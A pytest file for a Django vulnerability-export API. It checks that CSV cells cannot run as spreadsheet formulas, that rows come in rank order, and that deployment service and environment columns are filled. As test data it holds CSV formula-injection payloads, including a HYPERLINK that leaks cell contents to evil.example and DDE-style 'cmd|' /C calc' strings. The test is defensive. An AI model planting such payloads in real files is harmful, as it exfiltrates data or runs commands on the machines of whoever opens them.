"""The CSV an auditor opens in a spreadsheet: no cell runs as a formula, rows in rank order,
and where each finding runs (service, environment)."""

from __future__ import annotations

import csv
import io

import orjson
import pytest

from tests.exports.helpers import body_of, bulk_findings, csv_rows, ranked_scenario
from trustrank.exports.services.csv_copy import FORMULA_START, neutralise
from trustrank.exports.services.rows import COLUMNS
from trustrank.findings.models import Finding
from trustrank.inventory.models import Project

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'


@pytest.fixture
def data(team):
    return ranked_scenario(team)


def _raw_lines(body: bytes) -> list[list[str]]:
    """The CSV's physical fields, quotes kept, to see what a spreadsheet sees."""
    return [line.split(",") for line in body.decode().splitlines()]


def test_formula_cells_are_neutralised_and_quoted(api, team, data):
    Project.objects.filter(team=team, name="payment-gateway").update(name=HYPERLINK)
    Finding.objects.filter(pk=data["log4j"].pk).update(
        title="@SUM(1+1)*cmd|' /C calc'!A0", detail="-2+3+cmd|' /C calc'!A0"
    )
    Finding.objects.filter(pk=data["etcd"].pk).update(
        title="\t=1+1", detail="\r=2+2", category="+CATEGORY"
    )
    response = api(team, "read").get("/api/v1/exports", {"format": "csv"})
    assert response.status_code == 200
    body = body_of(response)
    rows = {int(r["finding_id"]): r for r in csv_rows(body)}
    log4j, etcd = rows[data["log4j"].pk], rows[data["etcd"].pk]
    assert log4j["project"] == "'" + HYPERLINK
    assert log4j["title"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert log4j["detail"] == "'-2+3+cmd|' /C calc'!A0"
    assert etcd["title"] == "'\t=1+1" and etcd["detail"] == "'\r=2+2"
    assert etcd["category"] == "'+CATEGORY"
    # No text cell of any row starts with a formula character once its quotes are read.
    for row in rows.values():
        for column in COLUMNS:
            if column not in ("cvss", "epss", "score"):
                assert not row[column].startswith(FORMULA_START), (column, row[column])
    # Text cells are quoted; the numeric columns are bare numbers.
    assert f'"\'{HYPERLINK.replace(chr(34), chr(34) * 2)}"'.encode() in body
    header, first = body.decode().splitlines()[:2]
    assert header.startswith('"finding_id","kind",')
    assert first.split(",")[0].isdigit() and first.split(",")[1] == '"vulnerability"'


def test_a_negative_number_in_a_numeric_column_stays_a_number(api, team, data):
    """EPSS, CVSS and scores are typed numbers: a leading minus is a sign, not a formula."""
    Finding.objects.filter(pk=data["log4j"].pk).update(epss=-0.5, title="-0.5")
    body = body_of(api(team, "read").get("/api/v1/exports", {"format": "csv"}))
    row = next(r for r in csv_rows(body) if int(r["finding_id"]) == data["log4j"].pk)
    assert row["epss"] == "-0.5"  # bare and unprefixed: the column is numeric
    assert row["title"] == "'-0.5"  # text that looks like a number is still text
    epss_at = list(COLUMNS).index("epss")
    fields = next(
        next(csv.reader([line])) for line in body.decode().splitlines()[1:]
        if line.startswith(f"{data['log4j'].pk},")
    )
    assert fields[epss_at] == "-0.5" and ",-0.5," in body.decode()


def test_the_python_twin_neutralises_like_postgresql():
    assert neutralise("=1") == "'=1" and neutralise("a=1") == "a=1"
    assert [neutralise(c + "x") for c in FORMULA_START] == [f"'{c}x" for c in FORMULA_START]


def test_rows_come_in_rank_order_unranked_last(api, team, data):
    # Findings the ranking run never saw: after the ranked ones, most severe first, then id.
    bulk_findings(team, 3, prefix="late")
    Finding.objects.filter(fingerprint="late-2").update(severity_score=9.9, cvss_score=9.9)
    client = api(team, "read")
    rows = csv_rows(body_of(client.get("/api/v1/exports", {"format": "csv"})))
    late = {f.fingerprint: f.pk for f in Finding.objects.filter(fingerprint__startswith="late")}
    expected = [data["log4j"].pk, data["etcd"].pk, late["late-2"], late["late-0"], late["late-1"]]
    assert [int(r["finding_id"]) for r in rows] == expected
    assert [r["rank"] for r in rows] == ["1", "2", "", "", ""]
    doc = orjson.loads(body_of(client.get("/api/v1/exports", {"format": "json"})))
    assert [f["finding_id"] for f in doc["findings"]] == expected


def test_deployed_findings_name_their_service_and_environment(api, team, data):
    from trustrank.accounts.principal import Principal
    from trustrank.runtime.deployment import DeploymentRequest, deployment_set

    principal = Principal(scopes_by_team={team.pk: frozenset({"sbom:write"})})
    deployment_set(team=team, environment="staging", service="gw-canary",
                   request=DeploymentRequest(project="payment-gateway", version="1.0"),
                   source="api", principal=principal)
    client = api(team, "read")
    rows = {int(r["finding_id"]): r for r in csv_rows(
        body_of(client.get("/api/v1/exports", {"format": "csv"}))
    )}
    # One row per finding; several deployments are listed in pairs (i-th service, i-th env).
    assert rows[data["log4j"].pk]["environment"] == "prod;staging"
    assert rows[data["log4j"].pk]["service"] == "payment-gateway;gw-canary"
    assert rows[data["etcd"].pk]["environment"] == "prod"
    assert rows[data["etcd"].pk]["service"] == "etcd"
    doc = orjson.loads(body_of(client.get("/api/v1/exports", {"format": "json"})))
    etcd = next(f for f in doc["findings"] if f["finding_id"] == data["etcd"].pk)
    assert etcd["environment"] == "prod" and etcd["service"] == "etcd"


def test_a_runtime_finding_keeps_its_own_service(api, team, data):
    from trustrank.runtime.models import Service

    etcd_service = Service.objects.get(environment__team=team, name="etcd")
    Finding.objects.create(
        team=team, kind="reliability", source="cluster", fingerprint="own-svc",
        title="GPU over-reserved", environment="lab", service=etcd_service,
    )
    rows = csv_rows(body_of(api(team, "read").get("/api/v1/exports", {"format": "csv"})))
    own = next(r for r in rows if r["title"] == "GPU over-reserved")
    assert own["environment"] == "lab" and own["service"] == "etcd"


def test_csv_parses_with_the_standard_reader(api, team, data):
    body = body_of(api(team, "read").get("/api/v1/exports", {"format": "csv"}))
    parsed = list(csv.reader(io.StringIO(body.decode())))
    assert parsed[0] == list(COLUMNS) and all(len(r) == len(COLUMNS) for r in parsed)
